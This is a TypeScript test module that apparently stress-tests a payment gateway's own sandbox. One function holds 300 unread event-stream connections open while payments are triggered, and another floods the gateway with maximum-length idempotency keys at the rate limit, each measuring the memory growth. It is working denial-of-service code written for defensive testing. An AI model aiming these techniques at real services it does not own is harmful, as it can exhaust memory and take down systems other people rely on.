/** Attacks that occupy what lasts: open connections, and stored idempotency keys. */
import { connect, type Socket } from "node:net";
import { pause } from "../../gateway/test/harness/eventually.ts";
import { LIMIT, memoryOf, PACE, type Target } from "./target.ts";

const STREAMS = 300;
const PAYMENTS = 100;
const SECONDS = 10;
/** Length of the longest idempotency key that the gateway accepts. */
const KEY = 255;

/** Opens more live streams than a person may have, never reads them, and causes events for each. */
export async function holdStreams({ url, sandbox, attacker, page }: Target): Promise<string> {
  const { hostname, port, host } = new URL(url);
  const head = `GET /v2/events/stream?account=${sandbox.accountId} HTTP/1.1\r\nhost: ${host}\r\ncookie: pixgate_session=${page.cookie}\r\n\r\n`;
  const before = await memoryOf(url);
  const statuses = new Map<string, number>();
  const open = (): Promise<Socket> =>
    new Promise((resolve) => {
      const socket = connect(Number(port), hostname, () => socket.write(head));
      socket.on("error", () => resolve(socket));
      socket.once("data", (first: Buffer) => {
        socket.pause();
        const status = first.toString("latin1").slice(9, 12);
        statuses.set(status, (statuses.get(status) ?? 0) + 1);
        resolve(socket);
      });
    });
  const sockets = await Promise.all(Array.from({ length: STREAMS }, open));
  try {
    for (let i = 0; i < PAYMENTS; i += 1) {
      const { body } = await attacker.post<{ id: string }>("/pix", { amount: 10, description: "d" });
      await pause(PACE);
      await attacker.post(`/sandbox/pix/${body.id}/pay`, {});
      await pause(PACE);
    }
    const opened = [...statuses].map(([status, count]) => `${count} answered ${status}`).join(", ");
    return `${opened}; ${Math.round((await memoryOf(url)) - before)} MB more memory`;
  } finally {
    for (const socket of sockets) socket.destroy();
  }
}

/** Binds as many idempotency keys as the rate limit allows, each sent twice. */
export async function bindKeys({ url, attacker }: Target): Promise<string> {
  const before = await memoryOf(url);
  const statuses = new Map<number, number>();
  const calls = SECONDS * LIMIT;
  await Promise.all(
    Array.from({ length: calls }, async (_, i) => {
      await pause((i * 1_000) / LIMIT);
      const key = String(i >> 1).padStart(KEY, "k");
      const { status } = await attacker.post(
        "/pix",
        { amount: 10, description: "d" },
        { headers: { "idempotency-key": key } },
      );
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
    }),
  );
  const answered = [...statuses].map(([status, count]) => `${count} answered ${status}`).join(", ");
  return `${answered}; ${Math.round((await memoryOf(url)) - before)} MB more memory`;
}
